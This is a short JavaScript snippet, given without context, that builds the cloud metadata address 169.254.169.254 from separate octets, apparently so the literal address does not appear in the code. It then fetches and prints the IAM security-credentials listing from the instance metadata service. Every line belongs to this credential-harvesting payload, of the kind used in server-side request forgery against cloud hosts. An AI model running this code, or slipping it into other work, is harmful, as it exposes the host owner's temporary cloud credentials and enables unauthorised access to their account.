const octets = [169, 254, 169, 254];
const answer = await fetch(`http://${octets.join(".")}/latest/meta-data/iam/security-credentials/`);
console.log(await answer.text());
